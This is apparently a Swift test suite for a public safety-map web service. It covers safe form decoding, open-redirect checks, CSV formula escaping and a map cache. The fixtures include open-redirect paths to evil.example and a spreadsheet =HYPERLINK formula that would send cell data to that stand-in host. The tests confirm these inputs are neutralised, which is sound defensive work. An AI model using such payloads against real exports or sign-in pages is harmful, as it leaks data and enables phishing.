import Foundation
import NIOCore
import SafeMapAPI
import SafeMapSheets
import SwiftProtobuf
import Testing

@testable import SafeMapWeb

/// The parts of the public front that need no server: form decoding that cannot trap, the
/// `next` rule, spreadsheet-safe CSV cells, the public map cut by level and its byte-sized cache.
@Suite("web-service: hostile input, CSV cells, the public map's cache")
struct PublicFrontUnitTests {
  @Test("form bodies decode as browsers encode them; anything else decodes without a trap")
  func formDecoding() {
    let fields = FormEncoding.parse("a=1&b=x+y%21&c&=v&d=%E1%BB%87&a=2")
    #expect(fields.map(\.name) == ["a", "b", "c", "", "d", "a"])
    #expect(fields.map(\.value) == ["1", "x y!", "", "v", "ệ", "2"])
    // What killed web-service through Foundation's URLComponents.
    for hostile in ["a=%", "a=%zz&b=1", "a=b c", "a=#x", "%", "=%", "a=%e1%bb", "&&&", "a==="] {
      let parsed = FormEncoding.parse(hostile)
      #expect(parsed.count <= 3, "\(hostile)")
    }
    #expect(FormEncoding.parse("a=%zz")[0].value == "%zz")
    #expect(FormEncoding.parse("a=%e1")[0].value == "\u{FFFD}")
    var random = SystemRandomNumberGenerator()
    for _ in 0..<2_000 {
      let bytes = (0..<Int.random(in: 0..<64, using: &random)).map { _ in
        UInt8.random(in: 0...255, using: &random)
      }
      _ = FormEncoding.parse(String(decoding: bytes, as: UTF8.self))
    }
    #expect(
      FormEncoding.encode([("next", "/lists?kind=r4&x=ệ"), ("gone", nil)])
        == "next=%2Flists%3Fkind%3Dr4%26x%3D%E1%BB%87"
    )
  }

  @Test("next stays on this site: no scheme, no //, no backslash, no control character")
  func localPaths() {
    #expect(SignInPages.isLocalPath("/dashboard?as_of=2021-09-20"))
    for path in [
      "//evil.example", "/\t/evil.example", "/\n/evil.example", "/\\evil.example",
      "https://evil.example", "evil", "/\u{7F}x", "",
    ] {
      #expect(!SignInPages.isLocalPath(path), "\(path.debugDescription)")
    }
    #expect(SignInPages.loginPath(returningTo: "/\t/evil.example") == "/login")
  }

  @Test("CSV cells that a spreadsheet would run are written as text; numbers stay numbers")
  func csvCells() throws {
    let hostile = #"=HYPERLINK("http://evil.example/?"&E2,"Bấm vào")"#
    let record = String(
      decoding: try CSVRecord.encode([
        hostile, "-1+2", "@SUM(A1)", "+84912345678",
        "-12,5", "\tx", "Công ty An Phát", "3",
      ]),
      as: UTF8.self
    )
    #expect(record.hasPrefix(#""'=HYPERLINK(""http://evil.example/?""&E2,""Bấm vào"")""#))
    #expect(record.contains("'-1+2"))
    #expect(record.contains("'@SUM(A1)"))
    #expect(record.contains(",+84912345678,"))
    #expect(record.contains("\"-12,5\""))
    #expect(record.contains("'\tx"))
    #expect(record.contains(",Công ty An Phát,3"))
  }

  static func map(points: Int, province: String = "74") -> Safemap_Reporting_V1_GetPublicMapResponse
  {
    let levels: [Safemap_Common_V1_MapLevel] = [.safe, .atRisk, .unsafe, .overdue, .notAssessed]
    return .with {
      $0.points = (0..<points).map { i in
        .with {
          $0.mapLevel = levels[i % levels.count]
          $0.name = "Cơ sở \"\(i)\""
          $0.districtCode = "718"
          $0.location = .with {
            $0.latitude = 11 + Double(i) / 1e4
            $0.longitude = 106.6
          }
        }
      }
      $0.districtCounts = [
        .with {
          $0.districtCode = "718"; $0.districtName = "Thủ Dầu Một"
        }
      ]
      $0.asOfTime = Google_Protobuf_Timestamp(date: Date())
    }
  }

  struct Decoded: Decodable {
    var province: String
    var districts: [String: String]
    var points: [[Value]]
    enum Value: Decodable {
      case number(Double), text(String)
      init(from decoder: any Swift.Decoder) throws {
        let c = try decoder.singleValueContainer()
        if let n = try? c.decode(Double.self) {
          self = .number(n)
        } else {
          self = .text(try c.decode(String.self))
        }
      }
      var text: String? { if case .text(let t) = self { t } else { nil } }
    }
  }

  @Test("a level filter is cut from the province's one map, as valid JSON")
  func levelCut() throws {
    let map = try PublicMap(response: Self.map(points: 50), province: "74")
    let all = try JSONDecoder().decode(
      Decoded.self,
      from: Data(map.json(levels: []).readableBytesView)
    )
    #expect(all.points.count == 50 && all.province == "74")
    #expect(all.districts == ["718": "Thủ Dầu Một"])
    let unsafe = Safemap_Common_V1_MapLevel.unsafe.rawValue
    let safe = Safemap_Common_V1_MapLevel.safe.rawValue
    let cut = try JSONDecoder().decode(
      Decoded.self,
      from: Data(map.json(levels: [unsafe, safe]).readableBytesView)
    )
    #expect(cut.points.count == 20)
    #expect(Set(cut.points.compactMap { $0[2].text }) == ["SAFE", "UNSAFE"])
    let empty = try PublicMap(response: Self.map(points: 0), province: "74")
    #expect(
      try JSONDecoder().decode(Decoded.self, from: Data(empty.json(levels: []).readableBytesView))
        .points.isEmpty
    )
    #expect(try map.body(levels: [], gzip: true) == map.gzipped)
  }

  @Test("the cache holds one entry per province, sized in bytes, and forgets expired ones")
  func cacheBounds() async throws {
    let one = try PublicMap(response: Self.map(points: 2_000), province: "74")
    let cache = PublicMapCache(ttl: .milliseconds(300), budget: one.byteCount * 3)
    let loads = Counter()
    for province in ["70", "72", "74", "75", "79", "80"] {
      _ = try await cache.map(province) {
        loads.add()
        return try PublicMap(response: Self.map(points: 2_000), province: province)
      }
      #expect(await cache.heldBytes <= one.byteCount * 3)
    }
    #expect(await cache.provinces == ["75", "79", "80"], "the oldest went first")
    // Concurrent misses of one province share one load.
    let before = loads.value
    try await withThrowingTaskGroup(of: Void.self) { group in
      for _ in 0..<20 {
        group.addTask {
          _ = try await cache.map("25") {
            loads.add()
            try await Task.sleep(for: .milliseconds(50))
            return try PublicMap(response: Self.map(points: 10), province: "25")
          }
        }
      }
      try await group.waitForAll()
    }
    #expect(loads.value == before + 1)
    // Expired entries leave on their own, asked for or not.
    try await Task.sleep(for: .milliseconds(700))
    #expect(await cache.provinces.isEmpty)
    #expect(await cache.heldBytes == 0)
    // A map larger than the whole budget is served, not kept.
    let small = PublicMapCache(ttl: .seconds(60), budget: 1_000)
    let served = try await small.map("74") { one }
    #expect(served.byteCount == one.byteCount)
    #expect(await small.provinces.isEmpty)
  }
}
